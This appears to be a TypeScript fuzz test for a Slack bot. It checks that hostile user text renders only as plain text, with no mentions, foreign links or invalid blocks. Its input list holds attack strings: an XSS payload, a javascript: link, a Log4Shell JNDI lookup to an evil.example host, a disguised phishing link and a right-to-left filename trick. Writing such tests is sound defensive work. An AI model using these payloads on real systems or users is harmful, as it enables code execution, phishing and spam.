import { expect, test } from "vitest";
import { seededRandom } from "../../src/lib/seeded-random.ts";
import { refuseMessage, updateTextLength } from "../../src/local-slack/blocks/validate-message.ts";
import { validateView } from "../../src/local-slack/blocks/validate-view.ts";
import { generatedViews } from "../support/generated-views.ts";
import { grouped, promised, promiseFigure } from "../support/promise-figure.ts";
import { shownToPeople } from "../support/shown-to-people.ts";
import { notingDesk } from "../support/slack-bot.ts";

const pieces = [
  "<!channel>",
  "<!here>",
  "<!everyone>",
  "<@U0LOCALLEAD>",
  "<@W123>",
  "<!subteam^S0LOCALSRE1>",
  "<!subteam^S0LOCALSRE1|@sre>",
  "<#C0LOCALINCI>",
  "<https://evil.example/login|https://slack.com>",
  "<https://evil.example>",
  "<mailto:x@evil.example|help>",
  "<slack://channel?id=1>",
  "<javascript:alert(1)|click>",
  "<!date^1392734382^{date}^https://evil.example|now>",
  "https://evil.example/a?b=1&c=<d>",
  "&lt;!channel&gt;",
  "&amp;lt;!channel&amp;gt;",
  "*bold* _it_ ~no~ `code` ```",
  "```\n<!channel>\n```",
  "> quoted",
  "\u202egnp.exe\u202c",
  "\u2066<!channel>\u2069",
  "a\u200b<\u200b!channel>",
  "\u0000\u0001\u0008\u001b[31mred",
  "\ud800 half a pair",
  "half a pair \udc00",
  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}",
  "\u{e0041}\u{e0042}",
  "so\u00adft\u034fly\u3164blank\u115f\u206a\uffa0\u{e0100}",
  "\r\n\r\rline",
  "\u2028\u2029\u0085",
  ":boom: :not_an_emoji:",
  "@channel @here #general",
  '{"type":"section"}',
  "'\"><img src=x onerror=alert(1)>",
  "$" + "{jndi:ldap://evil.example/a}",
  "",
  " ",
];

/** Strings in mrkdwn, wherever they stand: those of which Slack reads `<…>`. */
function parsed(value: unknown, found: string[] = []): string[] {
  if (Array.isArray(value)) for (const one of value) parsed(one, found);
  else if (typeof value === "object" && value !== null) {
    const fields = value as Record<string, unknown>;
    if (fields["type"] === "mrkdwn" && typeof fields["text"] === "string") found.push(fields["text"]);
    for (const inner of Object.values(fields)) parsed(inner, found);
  }
  return found;
}
/** Every string that is shown. */
function strings(value: unknown, found: string[] = []): string[] {
  if (typeof value === "string") found.push(value);
  else if (typeof value === "object" && value !== null)
    // What a button carries is sent back as it is and shown to nobody.
    for (const [name, inner] of Object.entries(value)) if (name !== "value") strings(inner, found);
  return found;
}

/** The only things in angle brackets that we write ourselves: moments in the reader's time zone, without a link. */
const ours = /<!date\^\d+\^[^^|<>]*\|[0-9 :-]+ UTC>/g;
/** From any other opening bracket on, Slack might read what was not meant as markup. */
const foreign = (text: string) => [...text.replace(ours, "").matchAll(/<.{0,40}/gs)].map(([found]) => found);
const unseen = /[[\p{Default_Ignorable_Code_Point}\p{Cc}\u2028\u2029\ufff9-\ufffb]--[\t\n\ufe0e\ufe0f]]/v;

test(
  "hostile text shows as text: no mention, no foreign link, blocks always valid",
  async () => {
    const count = promised(500, 74);
    const random = seededRandom(6);
    const desk = notingDesk([]);
    let shownStrings = 0;
    for (let i = 0; i < count; i++) {
      const mix = () =>
        Array.from({ length: 1 + Math.floor(random() * 4) }, () => pieces[Math.floor(random() * pieces.length)]).join(
          "",
        );
      const base = i < pieces.length ? (pieces[i] ?? "") : mix();
      const hostile =
        i % 50 === 49
          ? (base || "<!channel>").repeat(Math.ceil(100_000 / Math.max(1, (base || "<!channel>").length)))
          : base;
      const view = generatedViews(i, () => hostile || "x")();
      const shown = await shownToPeople(view, desk, hostile);
      for (const { what, text, blocks } of shown.messages) {
        const where = `${JSON.stringify(hostile.slice(0, 60))} in ${what}`;
        expect(refuseMessage({ text, blocks: [...blocks] }, { textLength: updateTextLength }), where).toBeUndefined();
        for (const one of [text, ...parsed(blocks)]) {
          expect(foreign(one), where).toEqual([]);
          shownStrings++;
        }
        for (const one of strings(blocks)) expect(unseen.test(one) || !one.isWellFormed(), where).toBe(false);
        // Bare addresses become links unless the text is verbatim.
        for (const block of blocks)
          if (block.type === "section" && block.text?.type === "mrkdwn") expect(block.text.verbatim, where).toBe(true);
      }
      for (const [what, form] of shown.views) {
        const where = `${JSON.stringify(hostile.slice(0, 60))} in ${what}`;
        expect(validateView(form), where).toEqual([]);
        for (const one of parsed(form)) expect(foreign(one), where).toEqual([]);
      }
    }
    promiseFigure(
      "S6",
      `${grouped(count)} hostile strings in ${grouped(shownStrings)} texts`,
      "0 mentions, 0 foreign links, all blocks valid",
    );
  },
  promised(3_600_000, 60_000),
);
